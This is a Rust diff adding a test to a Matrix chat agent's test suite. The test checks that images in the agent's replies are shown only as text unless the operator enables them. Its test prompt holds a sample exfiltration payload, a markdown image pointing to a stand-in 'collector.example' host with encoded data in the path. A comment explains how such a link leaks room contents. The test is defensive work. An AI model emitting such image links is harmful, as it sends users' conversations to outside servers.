@@ -467,3 +467,43 @@ async fn a_room_cannot_list_or_attach_another_rooms_session_in_a_shared_workspac
     assert!(!history.contains("launch code"), "{history}");
     assert_eq!(own_session(&env, &second).await, mine);
 }
+
+/// The HTML of the agent's message in `room` whose text ends `end`, once it does.
+async fn html_of_answer(env: &Env, room: &matrix_sdk::room::Room, end: &str) -> String {
+    support::wait_until(support::PATIENCE, "the answer's HTML", || {
+        (env.alice.messages_from(room, &env.agent).into_iter())
+            .filter(|m| m.replaces.is_none())
+            .find(|m| {
+                env.alice
+                    .current_text(&m.event_id)
+                    .is_some_and(|t| t.ends_with(end))
+            })
+            .and_then(|m| env.alice.current_html(&m.event_id))
+    })
+    .await
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agents_picture_is_never_fetched_by_readers_unless_configured() {
+    // A picture whose address would carry the room's words to a server of the agent's
+    // choosing, when a reader's homeserver fetches it.
+    let prompt = "%say **Done.** ![status](mxc://collector.example/c2VjcmV0) the end";
+    let env = sandboxed("").await;
+    let room = env.room_with_agent(false).await;
+    env.alice.send(&room, prompt).await;
+    let html = html_of_answer(&env, &room, "the end").await;
+    assert!(!html.contains("<img"), "{html}");
+    assert!(
+        html.contains("status (mxc://collector.example/c2VjcmV0)"),
+        "its description and address, as text: {html}"
+    );
+    drop(env);
+    let env = sandboxed("[display]\npictures = \"matrix\"").await;
+    let room = env.room_with_agent(false).await;
+    env.alice.send(&room, prompt).await;
+    let html = html_of_answer(&env, &room, "the end").await;
+    assert!(
+        html.contains("<img src=\"mxc://collector.example/c2VjcmV0\""),
+        "shown where the operator allows it: {html}"
+    );
+}
